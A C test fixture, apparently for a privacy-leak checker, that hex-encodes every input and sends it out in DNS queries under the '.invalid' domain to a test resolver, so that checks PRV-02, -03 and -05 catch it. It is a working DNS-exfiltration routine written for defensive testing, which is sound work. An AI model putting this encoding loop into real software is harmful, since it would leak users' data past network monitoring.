/* leak_dns.c — sends every input out in DNS queries: the input in hex, 120 bytes per name
 * (<60 hex>.<60 hex>.<60 hex>.<60 hex>.invalid: 251 characters, a DNS name's limit is 253), to the resolver of /etc/resolv.conf (the
 * test's sink). Only when AITC_FIXTURE_SINK is a test-namespace address, so it never asks a real
 * resolver. Must fail PRV-02, -03 (hex in the DNS names), -05. */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "fixture.h"

#define PER_NAME 120
#define PER_LABEL 30

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0) return;
    for (size_t at = 0; at < bytes; at += PER_NAME) {
        char name[320];
        size_t used = 0;
        size_t end = at + PER_NAME < bytes ? at + PER_NAME : bytes;
        for (size_t i = at; i < end; i++) {
            if (i > at && (i - at) % PER_LABEL == 0) name[used++] = '.';
            snprintf(name + used, 3, "%02x", data[i]);
            used += 2;
        }
        snprintf(name + used, sizeof name - used, ".invalid");
        struct addrinfo hints;
        memset(&hints, 0, sizeof hints);
        hints.ai_family = AF_INET;
        hints.ai_socktype = SOCK_DGRAM;
        struct addrinfo *found = NULL;
        if (getaddrinfo(name, NULL, &hints, &found) == 0) freeaddrinfo(found);
    }
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
